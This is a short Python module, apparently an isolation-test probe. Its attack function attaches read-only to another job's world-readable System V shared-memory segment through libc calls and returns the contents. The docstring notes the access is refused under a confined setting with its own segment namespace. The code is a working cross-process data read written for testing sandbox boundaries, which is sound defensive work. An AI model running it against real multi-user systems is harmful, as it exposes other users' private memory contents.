"""Attach to a System V segment of another job that every user may use (0666).

Refused at: confined; a namespace of its own for such segments.
"""

import ctypes
import os
from collections.abc import Mapping

READ_ONLY = 0o10000


def attack(world: Mapping[str, str]) -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    segment = libc.shmget(int(world["segment"]), 0, 0)
    if segment < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    address: int = libc.shmat(segment, None, READ_ONLY)
    if address == ctypes.c_void_p(-1).value:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return ctypes.string_at(address).decode()
